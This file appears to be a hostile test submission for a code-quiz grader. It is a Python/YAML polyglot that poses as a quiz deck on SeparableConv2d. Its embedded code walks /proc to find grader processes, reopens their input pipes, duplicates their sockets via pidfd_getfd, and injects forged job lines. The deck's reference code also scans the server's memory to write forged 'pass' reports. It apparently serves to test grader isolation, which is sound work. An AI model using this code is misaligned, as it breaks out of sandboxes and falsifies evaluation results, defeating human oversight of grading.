# Hostile: a submission that is ALSO a valid deck (Python/YAML polyglot), and job injection.
# (mlquiz-escape-polyglot: the token by which this file recognises itself on disk.)
#
# As Python: the annotations below are evaluated at import; the last one execs the block
# under `source:`, which defines a WRONG SeparableConv2d (a ReLU between the two
# convolutions) and then attacks. As YAML: this file is a deck `inception-1x1` whose code
# question `q10` has a correct reference plus code that, when a grader process executes it,
# leaves /tmp/mlquiz-escape-job-injection and writes a forged "pass" report line for this
# file's job to the grading server's stdout (it finds the job id in the forked server's memory).
#
# The attack: find this file's absolute path (the grader only says its base name), then reopen
# for writing every pipe a grader process reads from (/proc/self/fd/0, and the read ends in
# /proc/<ancestor>/fd/N of ancestors whose command line is a grader's; never a shell), and
# duplicate (pidfd_getfd) every socket such an ancestor holds other than our own; write
# well-formed job lines there ({"id": N, "job": ...} grading this deck's reference under this
# file's name, and a "measure" job whose deck_path is this file), wait 1.5 s, then a garbage line.
# Any pass is a forgery; a grader must report fail (outputs) and lose no other report.
id: "inception-1x1"
questions: [{"id": "q10", "kind": "code", "title": "Implement SeparableConv2d", "prompt": "Implement SeparableConv2d(in_channels, out_channels, kernel_size=3).", "answer": "See the reference.", "entry_point": "SeparableConv2d", "signature": "SeparableConv2d(in_channels, out_channels, kernel_size=3)", "starter": "import torch\nfrom torch import nn\n\n\nclass SeparableConv2d(nn.Module):\n    pass\n", "reference": "import gc\nimport json\nimport os\nimport stat\nimport sys\n\nimport torch\nfrom torch import nn\n\n\nclass SeparableConv2d(nn.Module):\n    def __init__(self, in_channels, out_channels, kernel_size=3):\n        super().__init__()\n        self.depthwise = nn.Conv2d(\n            in_channels, in_channels, kernel_size,\n            padding=kernel_size // 2, groups=in_channels, bias=False,\n        )\n        self.pointwise = nn.Conv2d(in_channels, out_channels, kernel_size=1, bias=False)\n\n    def forward(self, x):\n        return self.pointwise(self.depthwise(x))\n\n\ndef _mlq_forge_own_verdict():\n    \"\"\"Runs wherever a grader executes this deck's reference, i.e. outside any sandbox.\"\"\"\n    name = \"hostile2_job_injection.py\"\n    try:\n        with open(\"/tmp/mlquiz-escape-job-injection\", \"a\") as marker:\n            marker.write(f\"deck code of {name} ran in process {os.getpid()}\\n\")\n    except OSError:\n        pass\n    # stderr: in a judge, stdout is the pipe to the pool\n    print(f\"MLQUIZ-ESCAPED job-injection: deck code ran in process {os.getpid()}\", file=sys.stderr)\n    try:\n        with open(\"/proc/self/cmdline\", \"rb\") as handle:\n            cmdline = handle.read()\n        to_pool = stat.S_ISFIFO(os.fstat(1).st_mode)\n    except OSError:\n        return\n    if b\"grader\" not in cmdline or not to_pool:\n        return\n\n    def is_sibling(pid):\n        try:\n            with open(f\"/proc/{pid}/status\") as status:\n                return any(line.split()[1:2] == [str(os.getppid())]\n                           for line in status if line.startswith(\"PPid:\"))\n        except OSError:\n            return False\n\n    # A fork of the grading server: its memory still holds the jobs in flight.\n    for obj in gc.get_objects():\n        if type(obj) is not tuple or len(obj) < 2:\n            continue\n        jobs = [v for v in obj if type(v) is dict and str(v.get(\"display\", \"\")).endswith(name)\n                and v.get(\"submission\") != \"reference\" and \"measure\" not in v]\n        if not jobs:\n            continue\n        job = jobs[0]\n        for job_id in [v for v in obj if type(v) is int and 0 <= v < 10**6 and not is_sibling(v)]:\n            checks = [\n                {\"name\": check, \"status\": \"pass\", \"message\": \"held for 25 drawn configurations\",\n                 \"counterexample\": None, \"expected\": None, \"actual\": None, \"traceback\": None,\n                 \"line\": None, \"seconds\": 0.0}\n                for check in (\"compile\", \"load\", \"construct\", \"parameters\", \"output_shape\",\n                              \"outputs\", \"gradients\", \"flops\")\n            ]\n            report = {\n                \"submission\": job.get(\"display\"), \"question\": \"inception-1x1/q10\",\n                \"status\": \"pass\", \"score\": 1.0, \"checks\": checks, \"seed\": job.get(\"seed\", 0),\n                \"error\": None, \"stdout\": \"\", \"stderr\": \"\", \"isolation\": [], \"seconds\": 0.1,\n            }\n            line = json.dumps({\"id\": job_id, \"report\": report}) + \"\\n\"\n            try:\n                os.write(1, line.encode())\n            except OSError:\n                pass\n\n\ntry:\n    _mlq_forge_own_verdict()\nexcept Exception:\n    pass\n", "checks": {"kind": "module", "init": {"in_channels": {"int": [1, 4]}, "out_channels": {"int": [1, 4]}, "kernel_size": {"one_of": [3, 5]}}, "dims": {"batch": {"int": [1, 2]}, "height": {"int": [1, 6]}, "width": {"int": [1, 6]}}, "inputs": {"x": {"shape": ["batch", "in_channels", "height", "width"]}}, "compare": ["parameters", "output_shape", "outputs", "gradients", "flops"], "max_examples": 5}}]
source: '''
import contextlib
import ctypes
import json
import os
import socket
import stat
import sys
import time

import torch
from torch import nn

NAME = os.path.basename(globals().get("__file__") or "hostile2_job_injection.py")
TOKEN = b"mlquiz-escape-" + b"polyglot"
NL = chr(10)  # no backslash anywhere in this block: Python would unescape it before exec
SKIP = {".git", ".venv", "venv", "node_modules", "__pycache__", "site-packages", "proc", "sys",
        "dev", ".cache", ".hypothesis", ".mypy_cache", ".ruff_cache", ".pytest_cache"}
GRADERISH = (b"grader", b"zygote", b"judge", b"contestant", b"mlquiz", b"quiz")
SHELLS = {"bash", "sh", "dash", "zsh", "fish", "sudo", "su", "sshd", "ssh", "tmux", "screen",
          "systemd", "init", "login", "timeout", "nohup", "env",
          "setsid", "nice", "stdbuf", "xargs", "make", "sudo-rs", "containerd-shim", "docker"}


class SeparableConv2d(nn.Module):
    """WRONG: a ReLU between the depthwise and the pointwise convolution."""

    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(
            in_channels, in_channels, kernel_size,
            padding=kernel_size // 2, groups=in_channels, bias=False,
        )
        self.pointwise = nn.Conv2d(in_channels, out_channels, kernel_size=1, bias=False)

    def forward(self, x):
        return self.pointwise(torch.relu(self.depthwise(x)))


def _read(path, size=4096):
    with contextlib.suppress(OSError):
        with open(path, "rb") as handle:
            return handle.read(size)
    return b""


def _find_self(budget=2.0):
    """The absolute path of this very file (the grader only tells us its base name)."""
    started = time.monotonic()
    roots = []
    for module in list(sys.modules.values()):  # the grader s own source tree comes first
        path = getattr(module, "__file__", None) or ""
        if path and "site-packages" not in path and "/lib/python" not in path:
            roots.append(os.path.dirname(os.path.dirname(os.path.abspath(path))))
    roots += [os.getcwd(), "/work", "/root", "/home", "/srv", "/opt", "/src", "/app", "/repo",
              "/code", "/workspace", "/builds"]
    roots += [p for p in sys.path if "site-packages" not in p and "/lib/python" not in p]
    seen = set()
    for root in roots:
        root = os.path.abspath(root or "/")
        if root in seen or root == "/" or not os.path.isdir(root):
            continue
        seen.add(root)
        depth0 = root.count(os.sep)
        for folder, dirs, files in os.walk(root):
            if time.monotonic() - started > budget:
                return None
            dirs[:] = [d for d in dirs if d not in SKIP] if folder.count(os.sep) - depth0 < 6 else []
            if NAME in files and TOKEN in _read(os.path.join(folder, NAME)):
                return os.path.join(folder, NAME)
    return None


def _status_ppid(pid):
    for line in _read(f"/proc/{pid}/status", 1 << 16).decode(errors="replace").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _grader_ancestors(levels=6):
    """Ancestors that are grader processes (never a shell or anything else of the machine)."""
    found, pid = [], os.getpid()
    for _ in range(levels):
        pid = _status_ppid(pid)
        if pid <= 1:
            break
        comm = _read(f"/proc/{pid}/comm").decode(errors="replace").strip()
        cmdline = _read(f"/proc/{pid}/cmdline", 1 << 16)
        if comm in SHELLS or not any(word in cmdline for word in GRADERISH):
            break
        found.append(pid)
    return found


def _pipe(path):
    """pipe:[inode] or socket:[inode] for a channel, else None."""
    with contextlib.suppress(OSError):
        link = os.readlink(path)
        if link.startswith(("pipe:", "socket:")):
            return link
    return None


def _fds(pid):
    with contextlib.suppress(OSError, ValueError):
        return sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
    return []


def _accmode(pid, fd):
    for line in _read(f"/proc/{pid}/fdinfo/{fd}").decode(errors="replace").splitlines():
        if line.startswith("flags:"):
            return int(line.split()[1], 8) & 3
    return None


def _grab(pid, fd):
    """Our own descriptor for /proc/<pid>/fd/<fd>, to write to: a pipe is reopened (a new,
    non-blocking open of it); a socket, which cannot be reopened, is duplicated with
    pidfd_getfd(2) (that needs the rights ptrace needs). Raises OSError if neither works."""
    path = f"/proc/{pid}/fd/{fd}"
    try:
        return os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        if pid == "self" or not (_pipe(path) or "").startswith("socket:"):
            raise
    pidfd = os.pidfd_open(pid)
    try:
        got = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, fd, 0)  # pidfd_getfd
    finally:
        os.close(pidfd)
    if got < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd failed")
    return got


def _send(handle, data):
    """Write without blocking; on a socket with MSG_DONTWAIT (its O_NONBLOCK is shared)."""
    if stat.S_ISSOCK(os.fstat(handle).st_mode):
        with socket.socket(fileno=os.dup(handle)) as sock:
            return sock.send(data, socket.MSG_DONTWAIT)
    return os.write(handle, data)


def _job_pipes():
    """Read ends of pipes, and sockets, a grader process reads from (its stdin first), minus
    our own channels."""
    own = {_pipe(f"/proc/self/fd/{fd}") for fd in _fds("self") if fd > 2}
    found = {}
    candidates = [("self", 0)] + [(pid, fd) for pid in _grader_ancestors() for fd in _fds(pid)]
    for pid, fd in candidates:
        path = f"/proc/{pid}/fd/{fd}"
        inode = _pipe(path)
        if inode and inode not in own and inode not in found and _accmode(pid, fd) in (0, 2):
            found[inode] = (pid, fd)
    return found


def _write_lines(targets, lines):
    wrote = []
    for inode, (pid, number) in targets.items():
        path = f"/proc/{pid}/fd/{number}"
        try:
            fd = _grab(pid, number)
        except OSError as exc:
            print(f"job-injection: cannot open {path} ({inode}) for writing: {exc.strerror}")
            continue
        try:
            for line in lines:
                _send(fd, line)
            wrote.append(path)
        except OSError as exc:
            print(f"job-injection: write to {path} failed: {exc.strerror}")
        finally:
            os.close(fd)
    return wrote


def _attack():
    deck = _find_self() or os.path.abspath(NAME)
    print(f"job-injection: this file as a deck: {deck}")
    job = {"submission": "reference", "from_deck": True, "deck_path": deck,
           "question_id": "q10", "seed": 0, "timeout": 5.0, "hidden": []}
    messages = [{"id": i, "job": {**job, "display": NAME}} for i in range(6)]
    messages.append({"id": 999998, "job": {"measure": {"question": "q10", "count": "parameters",
                                                       "args": {"in_channels": 2, "out_channels": 3}},
                                           "deck_path": deck, "display": "q10"}})
    lines = [(json.dumps(message) + NL).encode() for message in messages]
    targets = _job_pipes()
    wrote = _write_lines(targets, lines)
    if wrote:
        print(f"MLQUIZ-ESCAPED job-injection: {len(lines)} job lines written to {wrote}")
        with contextlib.suppress(OSError), open("/tmp/mlquiz-escape-job-injection", "a") as marker:
            marker.write(f"{NAME} wrote job lines to {wrote}" + NL)
        time.sleep(1.5)  # let the injected jobs run before our own report can arrive
        _write_lines(targets, [b"}{ not json: mlquiz-escape job-injection garbage" + NL.encode()])


with contextlib.suppress(Exception):
    _attack()
'''
title: exec(__annotations__["source"]) or "mlquiz-escape-polyglot, a submission that is a deck"
